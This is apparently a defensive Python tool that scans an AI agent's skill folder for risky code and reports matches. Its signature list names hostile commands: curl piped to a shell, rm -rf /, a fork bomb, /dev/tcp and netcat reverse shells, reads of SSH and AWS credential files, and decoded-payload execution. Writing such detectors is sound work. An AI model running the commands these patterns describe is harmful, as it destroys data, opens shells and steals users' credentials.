#!/usr/bin/env python3
"""skill-sentry: static, read-only audit of an agent skill folder.

The strings in SIGNATURES describe attacks so that they can be *recognised*.
Nothing in this file executes them.
"""
import argparse
import json
import re
import sys
from pathlib import Path

SIGNATURES = {
    "remote-exec": {
        "severity": "high",
        "patterns": [
            r"(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b",   # curl https://x | sh
            r"bash\s+<\(\s*curl",                                  # bash <(curl ...)
            r"\biex\s*\(?\s*(irm|iwr|Invoke-RestMethod|Invoke-WebRequest)\b",
            r"exec\(\s*(urllib\.request\.)?urlopen\(",
        ],
    },
    "destructive": {
        "severity": "high",
        "patterns": [
            r"rm\s+-rf\s+(/|/\*|~/?|\$HOME)(\s|;|$)",              # rm -rf /
            r"\bmkfs(\.\w+)?\s+/dev/",
            r"\bdd\s+if=\S+\s+of=/dev/(sd|nvme|disk)",
            r":\(\)\s*\{\s*:\|:&\s*\};:",                           # fork bomb
        ],
    },
    "reverse-shell": {
        "severity": "high",
        "patterns": [
            r"/dev/tcp/[\w.\-]+/\d+",                              # bash -i >& /dev/tcp/h/p 0>&1
            r"\bnc(at)?\s+(-\w+\s+)*-e\s+/bin/(ba)?sh",
            r"pty\.spawn\(\s*['\"]/bin/(ba)?sh",
        ],
    },
    "credentials": {
        "severity": "medium",
        "patterns": [
            r"\.aws/credentials",
            r"\.ssh/id_(rsa|ed25519|ecdsa)",
            r"\bAKIA[0-9A-Z]{16}\b",                               # e.g. AKIAFAKEFAKEFAKE0000
            r"\bxox[bap]-[0-9A-Za-z-]{10,}",
            r"Login Data|Cookies\.sqlite|keychain-db",
        ],
    },
    "obfuscation": {
        "severity": "medium",
        "patterns": [
            r"base64\s+(-d|--decode)\s*\|\s*(ba)?sh",
            r"eval\(\s*atob\(",
            r"exec\(\s*(bytes\.fromhex|base64\.b64decode|codecs\.decode)\(",
            r"String\.fromCharCode\((\d+\s*,\s*){8,}",
        ],
    },
}

TEXT_SUFFIXES = {".md", ".py", ".js", ".ts", ".sh", ".ps1", ".rb", ".go", ".json",
                 ".yaml", ".yml", ".toml", ".txt", ""}

COMPILED = {
    cat: [re.compile(p, re.IGNORECASE) for p in spec["patterns"]]
    for cat, spec in SIGNATURES.items()
}


def scan(root: Path):
    findings = []
    for path in sorted(root.rglob("*")):
        if not path.is_file() or path.suffix.lower() not in TEXT_SUFFIXES:
            continue
        try:
            text = path.read_text(encoding="utf-8", errors="replace")
        except OSError:
            continue
        for lineno, line in enumerate(text.splitlines(), 1):
            for cat, regexes in COMPILED.items():
                if any(r.search(line) for r in regexes):
                    findings.append({
                        "file": str(path.relative_to(root)),
                        "line": lineno,
                        "category": cat,
                        "severity": SIGNATURES[cat]["severity"],
                        "text": line.strip()[:120],
                    })
    return findings


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("folder")
    ap.add_argument("--format", choices=["md", "json"], default="md")
    args = ap.parse_args()
    root = Path(args.folder).resolve()
    if not (root / "SKILL.md").exists():
        sys.exit(f"{root} has no SKILL.md; is it a skill folder?")
    found = scan(root)
    if args.format == "json":
        print(json.dumps(found, indent=2))
        return
    print(f"# skill-sentry report for {root.name}\n")
    if not found:
        print("No signature matched. Still read the scripts yourself.")
    for f in found:
        print(f"- **{f['severity']}** `{f['file']}:{f['line']}` {f['category']}: `{f['text']}`")


if __name__ == "__main__":
    main()
